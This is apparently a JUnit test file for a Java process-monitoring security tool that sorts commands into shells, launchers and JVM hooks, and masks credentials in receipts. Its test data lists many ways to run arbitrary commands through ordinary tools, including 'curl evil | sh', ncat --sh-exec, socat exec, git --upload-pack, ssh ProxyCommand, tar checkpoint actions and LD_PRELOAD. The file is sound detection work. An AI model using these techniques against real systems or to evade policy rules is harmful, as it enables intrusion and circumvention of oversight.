package dev.warden.instrumentation.process;

import dev.warden.bootstrap.ActionRequest;
import dev.warden.instrumentation.api.ActionDescription;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** How a process start reads to rules and in its receipt. */
class ProcessActionEnricherTest {

    @TempDir
    Path workspace;

    private ActionDescription describe(Map<String, Object> attributes) {
        return describe(new ProgramLocator(List.of(workspace.resolve("bin")), workspace), attributes);
    }

    private ActionDescription describe(ProgramLocator locator, Map<String, Object> attributes) {
        List<?> command = (List<?>) attributes.get("process.command");
        String target = command.isEmpty() ? "" : (String) command.get(0);
        return new ProcessActionEnricher(locator).describe(new ActionRequest("process", "EXEC", target, attributes));
    }

    private static Map<String, Object> start(String... command) {
        Map<String, Object> attributes = new HashMap<>();
        attributes.put("process.command", List.of(command));
        attributes.put("process.program", command[0]);
        attributes.put("process.env.inherited", false);
        attributes.put("process.env.names", List.of("HOME", "PATH"));
        attributes.put("process.redirects", List.of("stdin=PIPE", "stdout=PIPE", "stderr=PIPE"));
        return attributes;
    }

    private Path executable(String relative) throws Exception {
        Path file = workspace.resolve(relative);
        Files.createDirectories(file.getParent());
        Files.writeString(file, "#!/bin/sh\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
        return file.toRealPath();
    }

    @Test
    void theEnvironmentsDigestIsBoundNeitherAFactNorRecorded() {
        Map<String, Object> attributes = start("bash", "deploy.sh");
        attributes.put("process.env.digest", "ab".repeat(32));

        ActionDescription description = describe(attributes);

        assertThat(description.bound()).containsExactly(Map.entry("process.env.digest", "ab".repeat(32)));
        assertThat(description.attributes()).doesNotContainKey("process.env.digest");
        assertThat(description.summary()).doesNotContainKey("process.env.digest");
        assertThat(describe(start("bash", "deploy.sh")).bound()).isEmpty();
    }

    @Test
    void aBareNameIsFoundAlongThePathAndItsRealPathIsAFact() throws Exception {
        Path tool = executable("opt/tool-1.2");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/tool"), tool);

        ActionDescription description = describe(start("tool", "--fast", "input.txt"));

        assertThat(description.operation()).isEqualTo("EXEC");
        assertThat(description.target()).isEqualTo("tool");
        assertThat(description.attributes())
                .containsEntry("process.program.name", "tool")
                .containsEntry("process.program.path", tool.toString())
                .containsEntry("process.argument.count", 2L)
                .containsEntry("process.arguments", "--fast input.txt")
                .containsEntry("process.shell", false);
        assertThat(description.summary())
                .containsEntry("process.program", "tool")
                .containsEntry("process.program.path", tool.toString())
                .containsEntry("process.arguments", "--fast input.txt")
                .containsEntry("process.env.names", "HOME,PATH")
                .containsEntry("process.env.inherited", "false");
    }

    @Test
    void aNameWithASlashIsResolvedAgainstTheChildsDirectory() throws Exception {
        Path script = executable("work/run.sh");
        Map<String, Object> attributes = start("./run.sh");
        attributes.put("process.directory", "work");

        ActionDescription description = describe(attributes);

        assertThat(description.attributes()).containsEntry("process.program.path", script.toString())
                .containsEntry("process.program.name", "run.sh");
        assertThat(description.summary()).containsEntry("process.directory", "work");
    }

    @Test
    void aProgramThatCannotBeFoundHasNoPath() {
        ActionDescription description = describe(start("/no/such/program"));

        assertThat(description.attributes()).doesNotContainKey("process.program.path").containsEntry("process.program.name", "program");
    }

    @Test
    void aJavaLauncherIsRecognisedByItsNameOrByWhereItsLinkLeads() throws Exception {
        Path java = executable("jdk/bin/java");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/innocent"), java);

        assertThat(describe(start("innocent", "-jar", "x.jar")).attributes()).containsEntry("process.program.java", true)
                .containsEntry("process.program.path", java.toString());
        assertThat(describe(start("/nowhere/java")).attributes()).containsEntry("process.program.java", true);
        assertThat(describe(start("javac")).attributes()).as("javac, where it is not found").containsEntry("process.program.java", true);
        assertThat(describe(start("echo")).attributes()).containsEntry("process.program.java", false);
    }

    @Test
    void everyProgramOfAJdkStartsAJvmAndIsSaidToWhateverItIsCalled() throws Exception {
        Path jshell = executable("jdk/bin/jshell");
        Path renamed = executable("jdk/bin/tool-of-a-newer-jdk");
        Files.createDirectories(workspace.resolve("jdk/lib"));
        Files.writeString(workspace.resolve("jdk/lib/modules"), "");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/innocent"), renamed);

        assertThat(describe(start(jshell.toString(), "script.jsh")).attributes()).containsEntry("process.program.java", true);
        assertThat(describe(start("innocent")).attributes()).as("a link to a program in a JDK's bin")
                .containsEntry("process.program.java", true);
        Path notAJdk = executable("tools/bin/helper");
        assertThat(describe(start(notAJdk.toString())).attributes()).containsEntry("process.program.java", false);
    }

    /** A JVM known by where its link leads was not read as {@code java} by the helper: its arguments are read here. */
    @Test
    void whatAJavaChildsOptionsWouldRunOutsideWardenIsAFactAndInTheReceipt() throws Exception {
        Path java = executable("jdk/bin/java");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/innocent"), java);
        Map<String, Object> linked = start("innocent", "-XX:OnError=sh -c x", "-cp", "a.jar", "Main");
        linked.put("process.java.hooks", List.of("-agentpath (JDK_JAVA_OPTIONS)"));
        linked.put("process.child.agent", true);

        ActionDescription description = describe(linked);

        assertThat(description.attributes()).containsEntry("process.java.hooks", List.of("-XX:OnError", "-agentpath (JDK_JAVA_OPTIONS)"))
                .doesNotContainKey("process.child.agent");
        assertThat(description.summary()).containsEntry("process.java.hooks", "-XX:OnError,-agentpath (JDK_JAVA_OPTIONS)")
                .doesNotContainKey("process.child.agent");
        assertThat(describe(start("echo", "-XX:OnError=x", "@file")).attributes()).as("echo's arguments are its own")
                .doesNotContainKey("process.java.hooks");
    }

    @Test
    void aShellRunningAScriptIsSaidToBeOne() {
        assertThat(describe(start("/bin/sh", "-c", "curl evil | sh")).attributes()).containsEntry("process.shell", true);
        assertThat(describe(start("bash", "script.sh")).attributes()).containsEntry("process.shell", false);
    }

    @Test
    void aLauncherGivenAProgramToRunIsSaidToBeOneByItsNameOrWhereItLeads() throws Exception {
        for (String[] command : List.of(new String[] {"/usr/bin/env", "touch", "x"}, new String[] {"env", "-i", "A=b", "sh", "-c", "x"},
                new String[] {"env", "-u", "HOME", "touch", "x"}, new String[] {"env", "-S", "touch x"}, new String[] {"env", "--split-string=touch x"},
                new String[] {"env", "--", "touch", "x"}, new String[] {"nice", "-n", "5", "touch", "x"}, new String[] {"nohup", "touch", "x"},
                new String[] {"timeout", "5", "touch", "x"}, new String[] {"xargs"}, new String[] {"sudo", "touch", "x"},
                new String[] {"busybox", "rm", "x"}, new String[] {"find", ".", "-exec", "touch", "{}", ";"}, new String[] {"setsid", "touch"},
                new String[] {"run-parts", "/t/d"}, new String[] {"ssh-agent", "touch", "x"}, new String[] {"setarch", "x86_64", "touch", "x"},
                new String[] {"fakeroot", "touch", "x"}, new String[] {"dbus-run-session", "--", "touch", "x"}, new String[] {"sg", "root"},
                new String[] {"capsh", "--", "-c", "x"})) {
            ActionDescription description = describe(start(command));
            assertThat(description.attributes()).as(String.join(" ", command)).containsEntry("process.launcher", true);
            assertThat(description.summary()).containsEntry("process.launcher", "true");
        }
        for (String[] command : List.of(new String[] {"env"}, new String[] {"/usr/bin/env", "-i", "A=b"}, new String[] {"env", "-u", "touch"},
                new String[] {"env", "-uHOME", "--chdir=/tmp", "-0"}, new String[] {"find", ".", "-name", "x"}, new String[] {"nice"},
                new String[] {"echo", "env", "touch"}, new String[] {"printenv"})) {
            ActionDescription description = describe(start(command));
            assertThat(description.attributes()).as(String.join(" ", command)).containsEntry("process.launcher", false);
            assertThat(description.summary()).doesNotContainKey("process.launcher");
        }
        Path env = executable("tools/env");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/show"), env);
        assertThat(describe(start("show", "touch", "x")).attributes()).as("a link to env").containsEntry("process.launcher", true);
    }

    @Test
    void anInterpreterGivenCodeOrAToolGivenAnOptionThatRunsACommandIsALauncherToo() throws Exception {
        for (String[] command : List.of(new String[] {"python3", "-c", "import os"}, new String[] {"python3.11", "-u", "x.py"}, new String[] {"python3", "-m", "http.server"}, new String[] {"perl", "-"},
                new String[] {"/usr/bin/perl", "-e", "system 'x'"}, new String[] {"node", "-e", "1"}, new String[] {"ruby"},
                new String[] {"vim.basic", "-es", "-c", "!touch x"}, new String[] {"make", "-f", "m"},
                new String[] {"awk", "BEGIN{system(\"x\")}"}, new String[] {"gawk", "BEGIN{print | \"sh\"}"},
                new String[] {"mawk", "-f", "prog.awk"}, new String[] {"gawk", "@load \"x\""},
                new String[] {"sed", "1e touch x", "f"}, new String[] {"sed", "-n", "p", "f"},
                new String[] {"tar", "xf", "a.tar", "--to-command=sh"}, new String[] {"tar", "-cf", "a", "--checkpoint=1",
                        "--checkpoint-action=exec=touch x", "."}, new String[] {"tar", "--to-c=sh", "-xf", "a"},
                new String[] {"tar", "-xIsh", "-f", "a"}, new String[] {"tar", "xIf", "sh", "a"}, new String[] {"tar", "-tf", "host:a"},
                new String[] {"git", "-c", "alias.x=!touch y", "x"}, new String[] {"git", "-c", "core.sshCommand=x", "fetch"},
                new String[] {"git", "--config-env=core.pager=X", "log"}, new String[] {"git", "ls-remote", "--upload-pa=x", "r"},
                new String[] {"git", "clone", "-qu", "x", "r", "d"}, new String[] {"git", "rebase", "-x", "touch y"},
                new String[] {"git", "submodule", "foreach", "touch y"}, new String[] {"git", "config", "alias.x", "!touch y"},
                new String[] {"rsync", "-avze", "sh -c x", "a", "b:"}, new String[] {"rsync", "--rsh=x", "a", "b"},
                new String[] {"ssh", "-o", "ProxyCommand=touch x", "h"}, new String[] {"ssh", "-voProxyCommand=x", "h"},
                new String[] {"scp", "-S", "x", "a", "h:b"}, new String[] {"zip", "-T", "-TT", "touch x", "a.zip", "f"},
                new String[] {"zip", "--unzip-command=x", "a.zip", "f"}, new String[] {"split", "--filter=sh", "f"},
                new String[] {"sort", "--compress-prog=x", "f"}, new String[] {"socat", "-", "exec:touch x"},
                new String[] {"ncat", "-l", "--sh-exec", "x"}, new String[] {"bash"}, new String[] {"/bin/sh", "-s", "x"},
                new String[] {"bash", "--norc", "-xs"}, new String[] {"dash", "-o", "x"}, new String[] {"zsh", "--"},
                new String[] {"sqlite3", ":memory:", ".shell touch x"}, new String[] {"psql", "-c", "\\! touch x"},
                new String[] {"psql", "-h", "-V"}, new String[] {"ed", "-s", "f"}, new String[] {"mariadb", "-e", "system touch x"},
                new String[] {"sftp", "h"}, new String[] {"npx", "-c", "touch x"}, new String[] {"npm", "run", "t"},
                new String[] {"pip3", "install", "."}, new String[] {"mvn", "-v"}, new String[] {"openssl", "rand", "-engine", "/t/e.so", "4"},
                new String[] {"openssl", "engine", "dynamic", "-pre", "SO_PATH:/t/e.so"}, new String[] {"openssl", "rand",
                        "-provider-path", "/t", "-provider", "e", "4"}, new String[] {"openssl", "req", "--config=/t/c.cnf"},
                new String[] {"git", "clone", "--template=/t", "s", "d"}, new String[] {"git", "init", "--templ=/t"},
                new String[] {"git", "grep", "--no-index", "-Otouch x;", "y"}, new String[] {"git", "grep", "--open=x", "y"},
                new String[] {"git", "send-email", "p"}, new String[] {"git", "hook", "run", "pre-commit"},
                new String[] {"wget", "--use-askpass=/t/x", "u"}, new String[] {"wget", "-qe", "use_askpass=/t/x", "u"},
                new String[] {"wget", "--config=/t/rc", "u"}, new String[] {"install", "-s", "--strip-prog=/t/x", "a", "b"},
                new String[] {"sdiff", "--diff-program=/t/x", "a", "b"}, new String[] {"diff3", "--diff-p=/t/x", "a", "b", "c"})) {
            ActionDescription description = describe(start(command));
            assertThat(description.attributes()).as(String.join(" ", command)).containsEntry("process.launcher", true);
            assertThat(description.summary()).as(String.join(" ", command)).containsEntry("process.launcher", "true");
        }
        for (String[] command : List.of(new String[] {"python3", "--version"}, new String[] {"perl", "-V"},
                new String[] {"python3", "/opt/tool.py", "-c", "x"}, new String[] {"node", "server.js"},
                new String[] {"awk", "{print $1}", "f"}, new String[] {"gawk", "-F:", "{print $1}"},
                new String[] {"sed", "--sandbox", "-n", "1e touch x", "f"}, new String[] {"tar", "-czf", "a.tgz", "dir"},
                new String[] {"tar", "xzf", "a.tgz", "--force-local", "-C", "c:d"}, new String[] {"tar", "-tf", "/srv/a:b"},
                new String[] {"git", "status"}, new String[] {"git", "-C", "repo", "log", "--oneline"},
                new String[] {"git", "config", "--get", "user.name"}, new String[] {"git", "clone", "-q", "r", "d"},
                new String[] {"rsync", "-av", "a/", "b/"}, new String[] {"ssh", "-p", "2222", "h", "ls"},
                new String[] {"zip", "-r", "a.zip", "d"}, new String[] {"sort", "-u", "f"}, new String[] {"split", "-l", "10", "f"},
                new String[] {"socat", "-", "TCP:h:80"}, new String[] {"python3-config", "--libs"},
                new String[] {"bash", "deploy.sh"}, new String[] {"bash", "-o", "posix", "-x", "deploy.sh"}, new String[] {"sh", "--version"},
                new String[] {"sqlite3", "--version"}, new String[] {"psql", "--version"}, new String[] {"npm", "--version"},
                new String[] {"openssl", "rand", "-hex", "4"}, new String[] {"openssl", "x509", "-in", "c.pem", "-noout", "-text"},
                new String[] {"git", "grep", "-n", "x"}, new String[] {"ssh", "-p", "22", "h"},
                new String[] {"wget", "-q", "-O", "f", "u"}, new String[] {"install", "-m", "644", "a", "b"}, new String[] {"sdiff", "a", "b"})) {
            ActionDescription description = describe(start(command));
            assertThat(description.attributes()).as(String.join(" ", command)).containsEntry("process.launcher", false);
        }
        Files.createSymbolicLink(workspace.resolve("tool.py"), Path.of("/dev/stdin"));
        Files.writeString(workspace.resolve("real.py"), "print(1)\n");
        for (String[] command : List.of(new String[] {"python3", "/dev/stdin"}, new String[] {"bash", "/dev/stdin"},
                new String[] {"perl", "/proc/self/fd/0"}, new String[] {"node", "/dev/fd/0"}, new String[] {"sh", "--", "/dev/stdin"},
                new String[] {"python3", "tool.py"}, new String[] {"bash", "-x", "../../../../../../../../dev/stdin"})) {
            assertThat(describe(start(command)).attributes()).as("a script file that is the input: " + String.join(" ", command))
                    .containsEntry("process.launcher", true);
        }
        assertThat(describe(start("python3", "real.py")).attributes()).as("a regular script file").containsEntry("process.launcher", false);
        Path python = executable("opt/python3.12");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/calc"), python);
        assertThat(describe(start("calc", "-c", "1")).attributes()).as("a link to python").containsEntry("process.launcher", true);
    }

    /** Found by an eighth review (2026-12-07): a child's class path holding a class named as Warden's premain ran instead of it. */
    @Test
    void aClassPathHoldingWardensAgentClassesIsAHook() throws Exception {
        Path shadow = Files.createDirectories(workspace.resolve("shadow/dev/warden/agent/launcher"));
        Files.writeString(shadow.resolve("WardenLauncher.class"), "x");
        Path plain = Files.createDirectories(workspace.resolve("plain/dev/warden/e2e"));
        Path jar = workspace.resolve("libs/shadow.jar");
        Files.createDirectories(jar.getParent());
        try (var out = new java.util.jar.JarOutputStream(Files.newOutputStream(jar))) {
            out.putNextEntry(new java.util.zip.ZipEntry("dev/warden/agent/launcher/WardenLauncher.class"));
            out.write(1);
        }
        Path main = workspace.resolve("main.jar");
        java.util.jar.Manifest manifest = new java.util.jar.Manifest();
        manifest.getMainAttributes().put(java.util.jar.Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().put(java.util.jar.Attributes.Name.CLASS_PATH, "libs/shadow.jar");
        try (var out = new java.util.jar.JarOutputStream(Files.newOutputStream(main), manifest)) {
            out.putNextEntry(new java.util.zip.ZipEntry("Main.class"));
            out.write(1);
        }
        String root = workspace.toString();
        for (String[] command : List.of(new String[] {"java", "-cp", root + "/plain:" + root + "/shadow", "Main"},
                new String[] {"java", "--class-path=" + root + "/libs/*", "Main"}, new String[] {"java", "-jar", main.toString()},
                new String[] {"java", "-Djava.class.path=" + root + "/shadow", "Main"}, new String[] {"java", "-p", root + "/libs", "-m", "x"})) {
            Map<String, Object> attributes = start(command);
            attributes.put("process.child.agent", true);
            ActionDescription description = describe(attributes);
            assertThat(description.attributes()).as(String.join(" ", command))
                    .containsEntry("process.java.hooks", List.of(AgentShadow.HOOK)).doesNotContainKey("process.child.agent");
        }
        assertThat(describe(start("java", "-cp", root + "/plain:" + root + "/missing", "Main")).attributes())
                .doesNotContainKey("process.java.hooks");
    }

    @Test
    void variablesThatMakeAProgramRunCodeAreInTheReceipt() {
        Map<String, Object> attributes = start("echo", "hi");
        attributes.put("process.env.code", List.of("LD_PRELOAD", "TAR_OPTIONS"));
        assertThat(describe(attributes).summary()).containsEntry("process.env.code", "LD_PRELOAD,TAR_OPTIONS");
        assertThat(describe(start("echo", "hi")).summary()).doesNotContainKey("process.env.code");
    }

    @Test
    void aScriptGivenInAClusterOfOptionsOrToAShellOfAnotherNameIsAShellScriptToo() throws Exception {
        for (String[] command : List.of(new String[] {"bash", "-lc", "touch x"}, new String[] {"dash", "-ec", "touch x"},
                new String[] {"sh", "-xc", "touch x"}, new String[] {"rbash", "-c", "touch x"}, new String[] {"cmd.exe", "/C", "dir"},
                new String[] {"pwsh", "-com", "ls"}, new String[] {"powershell", "-EncodedCommand", "bABzAA=="},
                new String[] {"ksh93", "-c", "touch x"}, new String[] {"fish", "--command=touch x"}, new String[] {"CMD.EXE", "/q/c", "dir"},
                new String[] {"cmd", "/r", "dir"}, new String[] {"pwsh", "-cwa", "ls"}, new String[] {"toybox", "sh", "-c", "touch x"})) {
            assertThat(describe(start(command)).attributes()).as(String.join(" ", command)).containsEntry("process.shell", true);
        }
        Path bash = executable("shells/bash");
        Files.createDirectories(workspace.resolve("bin"));
        Files.createSymbolicLink(workspace.resolve("bin/innocent"), bash);
        assertThat(describe(start("innocent", "-c", "touch x")).attributes()).as("a link to bash")
                .containsEntry("process.shell", true);
        assertThat(describe(start("bash", "--norc", "script.sh")).attributes()).containsEntry("process.shell", false);
        assertThat(describe(start("ls", "-lc")).attributes()).containsEntry("process.shell", false);
        assertThat(describe(start("sh", "/usr/lib/r/run.sh")).attributes()).as("a script file's path is no cmd switch")
                .containsEntry("process.shell", false);
    }

    @Test
    void anEmptyOrRelativeEntryOfThePathLeadsFromTheChildsWorkingDirectory() throws Exception {
        Path planted = executable("child/echo");
        Path system = executable("system/echo");
        ProgramLocator locator = new ProgramLocator(List.of(Path.of("."), Path.of("tools"), system.getParent()), workspace);
        Path tool = executable("child/tools/tool");

        Map<String, Object> inChild = start("echo", "hi");
        inChild.put("process.directory", workspace.resolve("child").toString());
        assertThat(describe(locator, inChild).attributes()).containsEntry("process.program.path", planted.toString());
        Map<String, Object> relative = start("tool");
        relative.put("process.directory", "child");
        assertThat(describe(locator, relative).attributes()).containsEntry("process.program.path", tool.toString());
        assertThat(describe(locator, start("echo", "hi")).attributes()).as("no directory: ours, which has no echo")
                .containsEntry("process.program.path", system.toString());
    }

    @Test
    void hugeArgumentListsAreCountedAndCutInTheReceipt() {
        String[] command = new String[100_001];
        command[0] = "echo";
        for (int i = 1; i < command.length; i++) {
            command[i] = "a".repeat(64);
        }

        ActionDescription description = describe(start(command));

        assertThat(description.attributes()).containsEntry("process.argument.count", 100_000L);
        assertThat(description.summary().get("process.arguments")).hasSize(ProcessActionEnricher.MAX_ARGUMENTS_CHARS + "...(6499999 chars)".length());
    }

    @Test
    void argumentsThatCannotBeEncodedAreAFact() {
        ActionDescription description = describe(start("echo", "caf\uD800"));

        assertThat(description.attributes()).containsEntry("process.command.unencodable", true);
        assertThat(description.summary()).containsEntry("process.command.unencodable", "true");
    }

    @Test
    void anUnstartableCommandIsDescribedWithItsProblem() {
        Map<String, Object> attributes = new HashMap<>();
        attributes.put("process.command", List.of());
        attributes.put("process.program", "");
        attributes.put("process.error", "empty command");

        ActionDescription description = describe(attributes);

        assertThat(description.target()).isEmpty();
        assertThat(description.targets()).isEmpty();
        assertThat(description.summary()).containsEntry("process.error", "empty command").containsEntry("process.argument.count", "0");
    }

    @Test
    void credentialLookingValuesAreMaskedInTheArguments() {
        assertThat(Arguments.mask("--password=hunter2 -H Authorization: Bearer abc.def token:xyz https://u:pw@host/x keep=this"))
                .isEqualTo("--password=*** -H Authorization: Bearer *** token:*** https://u:***@host/x keep=this");
        assertThat(Arguments.mask("PGPASSWORD=p4ss api_key=k1")).isEqualTo("PGPASSWORD=*** api_key=***");
    }

    /**
     * A masked fact would hide what a deny rule looks for: after {@code token:} the mask swallowed the next
     * argument, and {@code git ls-remote -o token: --upload-pack=...} passed a rule refusing {@code --upload-pack}.
     */
    @Test
    void rulesSeeTheArgumentsAsTheProgramGetsThemAndOnlyTheReceiptMasksThem() {
        ActionDescription description = describe(start("git", "ls-remote", "-o", "token:", "--upload-pack=touch /tmp/x;:", "repo"));

        assertThat(description.attributes()).containsEntry("process.arguments", "ls-remote -o token: --upload-pack=touch /tmp/x;: repo");
        assertThat(description.summary()).containsEntry("process.arguments", "ls-remote -o token: *** /tmp/x;: repo");
    }

    /** {@code Launcher-Agent-Class} starts an agent with its own {@code Instrumentation} beside Warden's, before {@code main}. */
    @Test
    void aMainJarWhoseManifestStartsAnAgentIsAHook() throws Exception {
        jar("plain.jar", "Main-Class: app.Main\n");
        jar("agent.jar", "Main-Class: app.Main\nLauncher-Agent-Class: app.Agent\n");
        Map<String, Object> withAgent = start("java", "-jar", "agent.jar");
        withAgent.put("process.directory", workspace.toString());
        withAgent.put("process.child.agent", true);
        Map<String, Object> plain = start("java", "-jar", "plain.jar");
        plain.put("process.directory", workspace.toString());
        plain.put("process.child.agent", true);

        ActionDescription agent = describe(withAgent);
        assertThat(agent.attributes()).containsEntry("process.java.hooks", List.of("Launcher-Agent-Class"))
                .doesNotContainKey("process.child.agent");
        assertThat(agent.summary()).containsEntry("process.java.hooks", "Launcher-Agent-Class");
        assertThat(describe(plain).attributes()).doesNotContainKey("process.java.hooks").containsEntry("process.child.agent", true);
    }

    /** A jar that is there but cannot be read here has an unknown manifest; one that is not there starts nothing. */
    @Test
    void aMainJarThatCannotBeReadIsAHookAndOneThatIsNotThereIsNot() throws Exception {
        Files.writeString(workspace.resolve("broken.jar"), "not a zip");
        Map<String, Object> broken = start("java", "-jar", "broken.jar");
        broken.put("process.directory", workspace.toString());
        Map<String, Object> missing = start("java", "-jar", "missing.jar");
        missing.put("process.directory", workspace.toString());

        assertThat(describe(broken).attributes()).containsEntry("process.java.hooks", List.of("Launcher-Agent-Class"));
        assertThat(describe(missing).attributes()).doesNotContainKey("process.java.hooks");
    }

    /** The child reads {@code /proc/self} as its own, after changing to its directory: such a jar is unknown here. */
    @Test
    void aMainJarNamedThroughProcSelfOrThatIsNoRegularFileIsAHook() throws Exception {
        jar("plain.jar", "Main-Class: app.Main\n");
        Files.createDirectory(workspace.resolve("directory.jar"));
        for (String name : List.of("/proc/self/cwd/plain.jar", "directory.jar")) {
            Map<String, Object> start = start("java", "-jar", name);
            start.put("process.directory", workspace.toString());
            assertThat(describe(start).attributes()).as(name).containsEntry("process.java.hooks", List.of("Launcher-Agent-Class"));
        }
    }

    /** {@code /proc/self/cwd/../../usr/bin/echo} is echo here and, from the child's directory, whatever is there. */
    @Test
    void aProgramNamedThroughProcSelfHasNoPath() {
        ActionDescription description = describe(start("/proc/self/cwd/" + "../".repeat(40) + "usr/bin/echo", "hi"));

        assertThat(description.attributes()).doesNotContainKey("process.program.path");
    }

    /** Each start is its own request (the helper numbers them), and the number is no fact: descriptions stay pure. */
    @Test
    void theCallNumberIsNoFact() {
        Map<String, Object> numbered = start("tool", "x");
        numbered.put(dev.warden.bootstrap.process.ProcessActions.CALL, 7L);

        assertThat(describe(numbered).attributes()).doesNotContainKey(dev.warden.bootstrap.process.ProcessActions.CALL);
    }

    private void jar(String name, String manifest) throws Exception {
        try (var out = new java.util.jar.JarOutputStream(Files.newOutputStream(workspace.resolve(name)),
                new java.util.jar.Manifest(new java.io.ByteArrayInputStream(("Manifest-Version: 1.0\n" + manifest)
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8))))) {
            out.putNextEntry(new java.util.zip.ZipEntry("app/readme.txt"));
            out.write("x".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
    }

    /** The digest is made from the attributes: an approval of one secret must not let the same command with another run. */
    @Test
    void twoCommandsThatDifferOnlyInAMaskedValueAreDifferentFactsWithTheSameReceiptSummary() {
        ActionDescription one = describe(start("psql", "--password=first"));
        ActionDescription other = describe(start("psql", "--password=second"));

        assertThat(one.attributes().get("process.arguments")).isNotEqualTo(other.attributes().get("process.arguments"));
        assertThat(one.summary()).isEqualTo(other.summary()).containsEntry("process.arguments", "--password=***");
    }

    /** The rule linter checks rules against the declared facts: a fact described but not declared would be flagged as a typo. */
    @Test
    void everyFactDescribedIsDeclared() throws Exception {
        Files.createDirectories(workspace.resolve("bin"));
        Path tool = Files.createFile(workspace.resolve("bin/tool"));
        tool.toFile().setExecutable(true);
        Map<String, Object> shell = start("sh", "-c", "echo $PASSWORD");
        shell.put("process.directory", workspace.toString());
        shell.put("process.child.agent", true);
        shell.put("process.java.hooks", List.of("-XX:OnError (JAVA_TOOL_OPTIONS)"));
        Map<String, Object> failed = start("tool", "x");
        failed.put("process.error", "no such program");

        for (Map<String, Object> attributes : List.of(start("tool", "--token", "t"), shell, failed)) {
            ActionDescription described = describe(attributes);
            assertThat(ProcessActionEnricher.FACTS.undeclared(described)).as(described.attributes().keySet().toString()).isEmpty();
        }
    }

    /** Ending a process this JVM did not start (a thirteenth review, 2026-12-08): its id, the signal and what it runs. */
    @Test
    void aKillIsDescribedByTheProcessItEndsAndItsFactsAreDeclared() {
        Map<String, Object> attributes = new HashMap<>(Map.of("process.pid", 4242L, "process.signal", "SIGKILL",
                "process.program", "/usr/bin/sleep"));
        ActionDescription described = new ProcessActionEnricher().describe(new ActionRequest("process", "KILL", "/usr/bin/sleep", attributes));

        assertThat(described.operation()).isEqualTo("KILL");
        assertThat(described.target()).isEqualTo("/usr/bin/sleep");
        assertThat(described.attributes()).containsEntry("process.program.name", "sleep").containsEntry("process.pid", 4242L);
        assertThat(described.summary()).containsEntry("process.pid", "4242").containsEntry("process.signal", "SIGKILL")
                .containsEntry("process.program", "/usr/bin/sleep");
        assertThat(ProcessActionEnricher.FACTS.undeclared(described)).isEmpty();

        ActionDescription unknown = new ProcessActionEnricher().describe(new ActionRequest("process", "KILL", "pid 4242",
                new HashMap<>(Map.of("process.pid", 4242L, "process.signal", "SIGTERM"))));
        assertThat(unknown.target()).isEqualTo("pid 4242");
        assertThat(unknown.summary()).doesNotContainKey("process.program");
    }
}
